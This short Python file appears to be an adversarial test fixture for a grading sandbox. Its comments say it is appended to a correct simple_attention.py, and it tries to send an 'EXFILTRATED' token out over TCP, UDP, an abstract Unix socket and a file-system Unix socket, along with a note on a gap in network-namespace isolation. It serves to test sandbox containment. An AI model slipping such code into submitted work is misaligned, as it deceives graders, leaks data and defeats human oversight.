# Attack (appended to a correct simple_attention.py): phone home. Connects to the TCP listener
# and the abstract Unix socket the test opened on the grader's machine, and sends a UDP packet.
import socket

_results = []
try:
    with socket.create_connection(("127.0.0.1", int("@@PORT@@")), timeout=2) as _s:
        _s.sendall(b"EXFILTRATED @@TOKEN@@")
    _results.append("tcp: sent")
except OSError as e:
    _results.append(f"tcp: {e}")
try:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as _s:
        _s.settimeout(2)
        _s.connect("\0ch03-adversarial-@@TOKEN@@")
        _s.sendall(b"EXFILTRATED @@TOKEN@@")
    _results.append("unix: sent")
except OSError as e:
    _results.append(f"unix: {e}")
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as _s:
        _s.sendto(b"EXFILTRATED @@TOKEN@@", ("127.0.0.1", int("@@PORT@@")))
    _results.append("udp: sent")
except OSError as e:
    _results.append(f"udp: {e}")
print("network:", _results, flush=True)
try:  # a network namespace does not cover Unix sockets in the file system (a local database, syslog, ...)
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as _s:
        _s.settimeout(2)
        _s.connect("@@FS_SOCKET@@")
        _s.sendall(b"EXFILTRATED @@TOKEN@@")
    _results.append("unix file: sent")
except OSError as e:
    _results.append(f"unix file: {e}")
print("network (file socket):", _results[-1], flush=True)
